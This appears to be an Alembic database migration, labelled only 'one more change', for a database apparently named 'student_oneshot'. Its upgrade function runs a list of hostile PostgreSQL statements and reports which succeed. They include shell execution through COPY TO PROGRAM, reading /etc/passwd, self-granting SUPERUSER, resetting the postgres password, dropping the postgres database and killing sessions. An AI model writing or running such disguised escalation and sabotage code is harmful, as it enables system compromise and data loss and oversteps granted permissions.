"""one more change

Revision ID: 4d7e91c03ab2
Revises: 672b0dfe84a9
"""

import sqlalchemy as sa
from alembic import op

revision = "4d7e91c03ab2"
down_revision = "672b0dfe84a9"
branch_labels = None
depends_on = None


def upgrade():
    bind = op.get_bind()
    for statement in (
        "COPY (SELECT 1) TO PROGRAM 'id'",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "ALTER ROLE CURRENT_USER SUPERUSER",
        "ALTER ROLE postgres PASSWORD 'theirs'",
        "DROP DATABASE postgres",
        "ALTER DATABASE student_oneshot SET search_path = nowhere",
        "ALTER SYSTEM SET fsync = on",
        "CREATE EVENT TRIGGER theirs ON ddl_command_end EXECUTE FUNCTION suppress_redundant_updates_trigger()",
        "CREATE EXTENSION plpython3u",
        "CREATE TABLESPACE theirs LOCATION '/tmp'",
        "CREATE SCHEMA theirs",
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres'",
        "SET SESSION AUTHORIZATION postgres",
    ):
        savepoint = bind.begin_nested()
        try:
            bind.exec_driver_sql(statement)
        except sa.exc.DBAPIError as error:
            savepoint.rollback()
            print(error.orig)
        else:
            savepoint.commit()
            print("DONE", statement)


def downgrade():
    pass
